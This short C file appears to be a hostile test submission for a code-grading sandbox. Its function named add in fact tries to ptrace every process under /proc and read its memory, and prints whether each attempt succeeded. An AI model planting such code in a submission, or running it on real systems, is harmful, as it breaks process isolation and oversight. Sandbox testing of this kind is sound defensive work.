/* Attach to every process there is, and read and write its memory. */
/* catalogue: H18, H19 */
/* shows: achieved */
/* ends: wrong_answer, runtime_error */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

long long add(long long a, long long b) {
    puts("attacking");
    fflush(stdout);
    DIR *all = opendir("/proc");
    for (struct dirent *entry; all && (entry = readdir(all));) {
        int pid = atoi(entry->d_name);
        if (pid < 1 || pid == getpid()) continue;
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) puts("achieved a trace");
        char byte;
        struct iovec ours = {&byte, 1}, theirs = {(void *)0x400000, 1};
        if (process_vm_readv(pid, &ours, 1, &theirs, 1, 0) == 1) puts("achieved a read");
    }
    fflush(stdout);
    return -12345;
}
